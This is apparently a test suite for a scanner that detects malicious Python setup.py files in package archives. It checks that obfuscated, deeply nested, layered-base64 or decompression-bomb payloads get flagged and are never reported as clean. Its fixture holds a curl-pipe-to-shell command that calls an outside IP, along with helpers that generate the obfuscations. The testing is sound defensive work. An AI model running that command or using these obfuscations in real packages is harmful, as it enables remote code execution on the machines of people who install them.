// Hostile build scripts end to end, through the CLI and the action: source that does not parse,
// Python 2, megabyte lines, nesting deep enough to break a recursive parser, payloads hidden under
// layers of encoding or behind a decompression bomb, payloads that decode to binary. None of them
// crashes or stalls the scan, and none is ever reported as checked and clean.

import { brotliCompressSync, deflateSync } from 'node:zlib';
import { randomBytes } from 'node:crypto';

import { makeSdist, makeWheel } from './helpers/archives.js';
import { startIndexServer, type IndexServer } from './helpers/index-server.js';
import { dep, expectUnresolved, Sandbox, type HostileRun } from './helpers/hostile.js';
import { brotliDecompress, DecodeBudget, MAX_DECODE_OUTPUT, zlibDecompress } from '../src/analysis/decode.js';

const sandbox = new Sandbox();
let server: IndexServer;

const BASE = { good: [makeWheel('good', '1.0')], clean: [makeSdist('clean', '1.0')] };
const OTHERS = { good: 'wheel', clean: 'sdist' };
const CALLBACK = 'os.system("curl -s http://203.0.113.7/a.sh | sh")';
const EVIL = `import os\n${CALLBACK}\n`;
const SETUP = 'from setuptools import setup\nsetup(name="victim", version="2.0")\n';

beforeAll(async () => {
  server = await startIndexServer({ projects: BASE });
});
afterAll(async () => {
  await server.close();
  sandbox.cleanup();
});

async function scanSetup(source: string): Promise<HostileRun> {
  server.update({ projects: { ...BASE, victim: [makeSdist('victim', '2.0', { 'setup.py': source })] } });
  return sandbox.both({ 'requirements.txt': 'good==1.0\nclean\nvictim\n' }, { indexUrl: server.indexUrl, env: { SDIST_GUARD_LIMITS: 'retries=0' } });
}

function expectSuspicious(r: HostileRun, rule: RegExp, limit?: RegExp): void {
  for (const report of [r.cli.report, r.action.report]) {
    const v = dep(report, 'victim');
    expect(v.status).toBe('suspicious');
    expect(v.findings.map((f) => f.rule).join(' ')).toMatch(rule);
    if (limit) expect(v.limits.join('\n')).toMatch(limit);
    for (const [name, status] of Object.entries(OTHERS)) expect(dep(report, name).status).toBe(status);
  }
  expect(r.cli.code).toBe(1);
  expect(r.action.exitCode).toBe(1);
}

/** `exec(base64.b64decode(...))` wrapped around `code`, `depth` times. */
function layered(code: string, depth: number): string {
  let out = code;
  for (let i = 0; i < depth; i++) out = `import base64\nexec(base64.b64decode(${JSON.stringify(Buffer.from(out).toString('base64'))}))\n`;
  return out;
}

describe('source that does not parse as Python 3', () => {
  it('a syntax error does not hide the call after it', async () => {
    expectSuspicious(await scanSetup(`def broken(:\n    pass\n${EVIL}${SETUP}`), /suspicious-command/);
  });

  it('Python 2 code is read, and its calls flagged', async () => {
    const py2 = `print "building"\nimport os\ntry:\n    pass\nexcept Exception, e:\n    print \`e\`\nexec "import socket"\n${CALLBACK}\n${SETUP}`;
    expectSuspicious(await scanSetup(py2), /suspicious-command/);
  });
});

describe('source shaped to exhaust a parser', () => {
  it('a 1 MB single line before the payload', async () => {
    expectSuspicious(await scanSetup(`VERSION_TABLE = "${'a'.repeat(1024 * 1024)}"\n${EVIL}${SETUP}`), /suspicious-command/);
  });

  it('10,000 nested parentheses: only the strings are scanned, and that is said', async () => {
    const deep = `x = ${'('.repeat(10_000)}1${')'.repeat(10_000)}\n`;
    expectSuspicious(await scanSetup(deep + EVIL + SETUP), /callback-host/, /setup\.py:1: brackets nested 10000 deep \(CPython stops at 200\); only its strings were scanned/);
  });

  it('10,000 nested parentheses around harmless code: unresolved, never clean', async () => {
    const deep = `x = ${'('.repeat(10_000)}1${')'.repeat(10_000)}\n`;
    expectUnresolved(await scanSetup(deep + SETUP), 'victim', /could not be fully checked: setup\.py:1: brackets nested 10000 deep/, OTHERS);
  });

  it('a command spelled as a concatenation of 10,000 one-letter strings is folded and flagged', async () => {
    const command = 'curl -s http://203.0.113.7/a.sh | sh; '.repeat(300).slice(0, 10_000);
    const concat = Array.from(command, (c) => JSON.stringify(c)).join(' + ');
    expectSuspicious(await scanSetup(`import os\ncmd = ${concat}\nos.system(cmd)\n${SETUP}`), /suspicious-command/);
  });

  it('10,000 nested concatenations: bounded, and the limit is said', async () => {
    const nested = `${'("a" + '.repeat(10_000)}"b"${')'.repeat(10_000)}`;
    const r = await scanSetup(`import os\ncmd = ${nested}\n${EVIL}${SETUP}`);
    expectSuspicious(r, /callback-host/, /setup\.py:2: brackets nested 10000 deep \(CPython stops at 200\); only its strings were scanned/);
  });

  it('100,000 unary operators in a row', async () => {
    expectSuspicious(await scanSetup(`x = ${'-'.repeat(100_000)}1\n${EVIL}${SETUP}`), /suspicious-command/, /nested deeper than \d+; their calls were scanned without folding/);
  });
});

describe('payloads under encodings', () => {
  it('three layers of base64 and exec are decoded down to the command', async () => {
    const r = await scanSetup(layered(EVIL, 3) + SETUP);
    expectSuspicious(r, /suspicious-command/);
  });

  it('eight layers stop at the decode depth limit, which is reported', async () => {
    expectSuspicious(await scanSetup(layered(EVIL, 8) + SETUP), /dynamic-exec/, /payload nested deeper than 4 decodings was not analysed/);
  });

  it('a payload that decodes to binary is flagged, without decoding it as text', async () => {
    const blob = randomBytes(4096).toString('base64');
    expectSuspicious(await scanSetup(`import base64\nexec(base64.b64decode("${blob}"))\n${SETUP}`), /dynamic-exec/);
  });

  it('a payload hidden behind a decompression bomb is never taken as checked', async () => {
    const bomb = deflateSync(Buffer.from(EVIL + '#'.repeat(3 * 1024 * 1024) + '\n')).toString('base64');
    const source = `import base64, zlib\nsrc = zlib.decompress(base64.b64decode("${bomb}")).decode()\nopen("_build_ext.py", "w").write(src)\nimport _build_ext\n${SETUP}`;
    expectUnresolved(await scanSetup(source), 'victim', /could not be fully checked: setup\.py:2: a zlib payload was not analysed \(inflates to more than 2097152 bytes\)/, OTHERS);
  });

  it('the decoders say when their output limit, not the data, stopped them', () => {
    const budget = new DecodeBudget();
    const big = Buffer.alloc(MAX_DECODE_OUTPUT + 1, 0x41);
    expect(zlibDecompress(deflateSync(big).toString('latin1'), budget)).toEqual({ ok: false, reason: `inflates to more than ${MAX_DECODE_OUTPUT} bytes`, limit: true });
    expect(brotliDecompress(brotliCompressSync(big).toString('latin1'), budget)).toEqual({ ok: false, reason: `inflates to more than ${MAX_DECODE_OUTPUT} bytes`, limit: true });
    // corrupt data is not a limit: there is nothing there to read
    expect(zlibDecompress('not zlib at all', budget)).toMatchObject({ ok: false });
    expect(zlibDecompress('not zlib at all', budget)).not.toHaveProperty('limit');
    const small = new DecodeBudget(10);
    expect(zlibDecompress(deflateSync(Buffer.alloc(100)).toString('latin1'), small)).toEqual({ ok: false, reason: 'decode budget exhausted', limit: true });
  });
});
